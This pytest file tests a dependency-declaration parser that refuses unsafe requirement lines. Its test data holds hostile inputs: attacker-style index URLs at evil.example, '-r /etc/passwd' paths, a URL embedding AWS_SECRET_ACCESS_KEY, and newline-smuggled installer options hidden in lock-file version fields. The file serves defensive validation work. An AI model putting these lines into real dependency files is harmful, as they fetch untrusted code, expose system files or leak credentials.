"""What a project asks for, of whatever file says it, with the line that does."""

from __future__ import annotations

import json
from collections.abc import Mapping

import pytest

from fossml.errors import FossmlError
from fossml.types import Evidence
from fossml.verify.environment.wanted import (
    Wanted,
    as_line,
    checked_indexes,
    parse_exported,
    text_of,
    wanted,
)

BUILD = "[build-system]\nrequires = []\n"


def ask(files: Mapping[str, str], imported: Mapping[str, Evidence] | None = None) -> Wanted:
    return wanted(set(files), files.get, lambda: imported or {})


def specs(asked: Wanted) -> list[str]:
    return [line.spec for line in asked.lines]


def refused(asked: Wanted) -> list[tuple[str, str, int | None]]:
    return [
        (one.code, one.evidence[0].path, one.evidence[0].line)
        for one in asked.findings
        if one.status in ("fail", "unknown")
    ]


def test_nothing_is_nothing() -> None:
    assert ask({"train.py": ""}).kind == "none"


def test_what_is_imported_is_the_last_resort() -> None:
    asked = ask({"train.py": ""}, {"six": Evidence("train.py", 3, "import six")})
    assert (asked.kind, asked.lines[0].spec, asked.lines[0].line, asked.files) == ("imports", "six", 3, ())


def test_a_requirements_file_with_what_it_includes() -> None:
    files = {
        "requirements.txt": "# needed\nsix==1.15.0 ; python_version > '3'  # why\n-r base.txt\n-c pins.txt\n\nidna",
        "base.txt": "numpy>=1 \\\n  ,<2\n-r requirements.txt\n",
        "pins.txt": "idna==2.10\n",
    }
    asked = ask(files)
    assert (asked.kind, asked.files) == ("requirements", ("requirements.txt", "base.txt", "pins.txt"))
    assert specs(asked) == ["six==1.15.0 ; python_version > '3'", "numpy>=1   ,<2", "idna"]
    assert [(line.path, line.line) for line in asked.lines] == [
        ("requirements.txt", 2),
        ("base.txt", 1),
        ("requirements.txt", 6),
    ]
    assert [line.spec for line in asked.constraints] == ["idna==2.10"]
    assert not asked.locked


def test_sklearn_stands_for_scikit_learn_and_the_line_is_shown() -> None:
    asked = ask({"requirements.txt": "numpy\nsklearn\n"})
    assert [(line.spec, line.name, line.text) for line in asked.lines][1] == ("scikit-learn", "scikit-learn", "sklearn")


def test_hashes_stay() -> None:
    asked = ask({"requirements.txt": "six==1.15.0 \\\n    --hash=sha256:ab \\\n    --hash=sha256:cd\n"})
    assert specs(asked) == ["six==1.15.0     --hash=sha256:ab     --hash=sha256:cd"]


@pytest.mark.parametrize(
    "line",
    [
        "--index-url http://evil.example/simple",
        "--extra-index-url=https://evil.example/simple",
        "-i https://evil.example/simple",
        "-f /root/wheels",
        "--find-links file:///root/wheels",
        "--trusted-host evil.example",
        "-e /",
        "-e ../other",
        "-e git+https://example.org/a/b#egg=b",
        "git+https://example.org/a/b",
        "b @ git+ssh://git@example.org/a/b",
        "file:///root/b-1-py3-none-any.whl",
        "./wheels/b-1-py3-none-any.whl",
        "/root/b",
        "~/b",
        "b @ http://example.org/b-1-py3-none-any.whl",
        "https://example.org/b-1.tar.gz",
        "-r /etc/passwd",
        "-r ../../etc/passwd",
        "-c https://example.org/pins.txt",
        "b @ https://example.org/${AWS_SECRET_ACCESS_KEY}/b-1-py3-none-any.whl",
        "b>=1 --config-settings=x=y",
    ],
)
def test_what_leads_elsewhere_or_runs_code_is_refused_and_named(line: str) -> None:
    asked = ask({"requirements.txt": f"six\n{line}\n"})
    assert specs(asked) == ["six"]
    assert asked.indexes == ()
    assert refused(asked) == [("ENV004", "requirements.txt", 2)]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("poetry.lock", '[[package]]\nname = "evil"\nversion = "1\\n--no-index\\n--find-links /x"\n'),
        ("Pipfile.lock", '{"default": {"evil": {"version": "==1\\n--find-links /x"}}, "develop": {}}'),
        ("pylock.toml", 'lock-version = "1.0"\n[[packages]]\nname = "evil"\nversion = "1\\n--no-binary evil"\n'),
        ("pyproject.toml", '[tool.poetry.dependencies]\nevil = ">=1\\n--no-index\\n--find-links /x"\n'),
    ],
)
def test_no_line_is_smuggled_into_what_the_installer_reads(name: str, text: str) -> None:
    asked = ask({name: text})
    assert all("evil" not in one for one in specs(asked))
    assert any(code == "ENV004" for code, _, _ in refused(asked))


def test_an_installer_is_given_no_line_that_reads_as_several() -> None:
    with pytest.raises(FossmlError, match="more to the installer"):
        text_of([as_line("evil==1\n--find-links /x", "requirements.txt", 1)])


def test_a_file_of_the_machine_that_pip_freeze_names_is_taken_by_its_name() -> None:
    asked = ask({"requirements.txt": "numpy @ file:///tmp/build/numpy_1/work\n"})
    assert specs(asked) == ["numpy"]
    assert refused(asked) == [("ENV004", "requirements.txt", 1)]


def test_wheels_by_https_and_the_index_of_torch_are_taken() -> None:
    text = "--extra-index-url https://download.pytorch.org/whl/cpu\n-f https://download.pytorch.org/whl/torch_stable.html\n"
    asked = ask({"requirements.txt": text + "b @ https://example.org/b-1-py3-none-any.whl\n"})
    assert (len(asked.lines), len(asked.indexes), refused(asked)) == (1, 2, [])


@pytest.mark.parametrize(
    ("line", "spec"),
    [
        ("numpy=1.19.5=py38h1", "numpy==1.19.5"),
        ("Ruamel.Yaml[x]>=1", "Ruamel.Yaml[x]>=1"),
        ("--pre", None),
        ("-e .", None),
    ],
)
def test_other_ways_to_write_a_line(line: str, spec: str | None) -> None:
    asked = ask({"requirements.txt": f"six\n{line}\n"})
    assert specs(asked) == ["six", *([spec] if spec else [])]
    assert asked.itself is (line == "-e .")
    assert refused(asked) == []


def test_python_among_the_requirements_is_a_wish() -> None:
    asked = ask({"requirements.txt": "python==3.8\nsix\n"})
    assert (specs(asked), asked.python) == (["six"], "3.8")


@pytest.mark.parametrize(
    ("names", "first"),
    [
        (["requirements-dev.txt", "requirements.txt"], "requirements.txt"),
        (["requirements.in", "requirements.txt"], "requirements.txt"),
        (["requirements.txt", "requirements-lock.txt"], "requirements-lock.txt"),
        (["requirements_gpu.txt"], "requirements_gpu.txt"),
        (["Requirements.txt"], "Requirements.txt"),
        (["requirements/base.txt", "requirements/requirements.txt"], "requirements/requirements.txt"),
        (["docker/requirements.txt"], "docker/requirements.txt"),
        (["requirements-test.txt"], None),
        (["docs/requirements.txt"], None),
    ],
)
def test_which_requirements_file_counts(names: list[str], first: str | None) -> None:
    asked = ask(dict.fromkeys(names, "six\n"))
    assert (asked.files[:1] or (None,)) == (first,)


def test_a_lock_comes_before_all_else() -> None:
    files = {"requirements.txt": "six", "pyproject.toml": BUILD, "uv.lock": 'requires-python = ">=3.9"\n'}
    asked = ask(files)
    assert (asked.kind, asked.files, asked.locked, asked.itself, asked.python) == (
        "lock",
        ("uv.lock",),
        True,
        True,
        ">=3.9",
    )


PYLOCK = """\
lock-version = "1.0"
requires-python = ">=3.9"
default-groups = ["default"]

[[packages]]
name = "six"
version = "1.15.0"
marker = "python_version > '3'"
wheels = [{ url = "https://files.pythonhosted.org/six.whl", hashes = { sha256 = "ab" } }]

[[packages]]
name = "pytest"
version = "8"
marker = "'dev' in dependency_groups"

[[packages]]
name = "own"
vcs = { type = "git", url = "https://example.org/own", commit-id = "1" }
"""


def test_a_pylock() -> None:
    asked = ask({"pylock.toml": PYLOCK})
    assert specs(asked) == ["six==1.15.0 ; python_version > '3' --hash=sha256:ab"]
    assert (asked.locked, asked.python, asked.lines[0].line) == (True, ">=3.9", 6)
    assert refused(asked) == [("ENV004", "pylock.toml", 17)]


def test_of_a_poetry_lock_the_versions_of_a_pyproject_what_is_asked_for() -> None:
    files = {
        "pyproject.toml": '[tool.poetry.dependencies]\npython = "^3.8"\nSix = "^1.15"\n'
        '[tool.poetry.dev-dependencies]\nb = "*"\n',
        "poetry.lock": '[[package]]\nname = "six"\nversion = "1.15.0"\n\n[[package]]\nname = "b"\nversion = "1"\n',
    }
    asked = ask(files)
    assert (specs(asked), asked.locked) == (["six>=1.15,<2"], False)
    assert [line.spec for line in asked.constraints] == ["six==1.15.0", "b==1"]
    assert (asked.python, asked.python_at) == (">=3.8,<4", Evidence("pyproject.toml", 2, 'python = "^3.8"'))


def test_a_pipfile_lock() -> None:
    default = {
        "six": {"version": "==1.15.0", "hashes": ["sha256:ab"], "markers": "python_version > '3'"},
        "own": {"git": "https://example.org/own", "ref": "1"},
        "here": {"editable": True, "path": "."},
    }
    lock = {"_meta": {"requires": {"python_version": "3.8"}}, "default": default, "develop": {"b": {"version": "==1"}}}
    asked = ask({"Pipfile.lock": json.dumps(lock, indent=4)})
    assert specs(asked) == ["six==1.15.0 ; python_version > '3' --hash=sha256:ab"]
    assert (asked.python, len(refused(asked))) == ("3.8", 1)


@pytest.mark.parametrize("name", ["pylock.toml", "poetry.lock", "Pipfile.lock", "pyproject.toml"])
def test_a_file_that_cannot_be_read_is_said(name: str) -> None:
    asked = ask({name: "{nonsense"})
    assert [(one.code, one.subject) for one in asked.findings] == [("ENV009", name)]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("pyproject.toml", '[project]\ndependencies = ["six>=1"]\n[project.optional-dependencies]\nx = ["b"]\n'),
        ("setup.cfg", "[options]\ninstall_requires =\n    six>=1\n"),
        ("setup.py", "from setuptools import setup\nsetup(install_requires=['six>=1'])\n"),
        ("Pipfile", '[packages]\nsix = ">=1"\n[dev-packages]\nb = "*"\n'),
    ],
)
def test_what_a_package_says_that_it_needs(name: str, text: str) -> None:
    asked = ask({name: text})
    assert (asked.kind, specs(asked), asked.itself) == ("project", ["six>=1"], name.startswith("setup"))


CONDA = """\
name: birds
channels:
  - pytorch
dependencies:
  - python=3.8
  - pytorch=1.7=py38_cuda
  - conda-forge::numpy=1.19
  - scipy>=1.5
  - _libgcc_mutex=0.1=main
  - openssl=1.1.1
  - birdtools=2
  - mytool=1.0
  - pip
  - pip:
      - six==1.15.0
      - git+https://example.org/own
      - -e .
  - xz=5.2.5=h7b6447c_0
"""


def test_an_environment_file_as_far_as_pypi_carries_it() -> None:
    asked = ask({"environment.yml": CONDA}, {"mytool": Evidence("a.py", 1)})
    assert specs(asked) == ["torch==1.7.*", "numpy==1.19.*", "scipy>=1.5", "mytool==1.0.*", "six==1.15.0"]
    assert (asked.python, asked.python_at, asked.itself) == (
        "3.8",
        Evidence("environment.yml", 5, "- python=3.8"),
        True,
    )
    assert refused(asked) == [("ENV008", "environment.yml", 11), ("ENV004", "environment.yml", 16)]


@pytest.mark.parametrize(
    ("name", "text", "wish"),
    [
        (".python-version", "3.8.12\n", "3.8.12"),
        (".python-version", "myenv\n3.8\n", "3.8"),
        (".python-version", "myenv\n", ""),
        ("runtime.txt", "python-3.8.12\n", "3.8.12"),
        ("setup.cfg", "[options]\npython_requires = >=3.6\n", ">=3.6"),
        ("setup.py", "setup(python_requires='>=3.6')", ">=3.6"),
        ("pyproject.toml", '[project]\nrequires-python = ">=3.9"\n', ">=3.9"),
        ("pyproject.toml", '[tool.poetry.dependencies]\npython = "~3.8"\n', ">=3.8,<3.9"),
        ("Pipfile", '[requires]\npython_version = "3.8"\n', "3.8"),
    ],
)
def test_the_python_that_is_asked_for(name: str, text: str, wish: str) -> None:
    asked = ask({name: text, "requirements.txt": "six"})
    assert asked.python == wish
    assert (asked.python_at is None) is (wish == "")


def test_what_uv_writes_out_of_its_lock() -> None:
    text = "six==1.15.0 ; sys_platform == 'linux' \\\n    --hash=sha256:ab\n-e ./sub\nown @ git+https://example.org/own@1\n"
    lines, found = parse_exported(text, "uv.lock", '[[package]]\nname = "six"\n')
    assert [(line.name, line.line) for line in lines] == [("six", 2)]
    assert [one.code for one in found] == ["ENV004", "ENV004"]


def test_the_indexes_of_a_lock() -> None:
    urls = ["https://pypi.org/simple", "https://download.pytorch.org/whl/cpu", "https://evil.example/simple"]
    allowed, found = checked_indexes(urls, "uv.lock", "\n".join(urls))
    assert allowed == ("https://download.pytorch.org/whl/cpu",)
    assert [(one.subject, one.evidence[0].line) for one in found] == [("https://evil.example/simple", 3)]
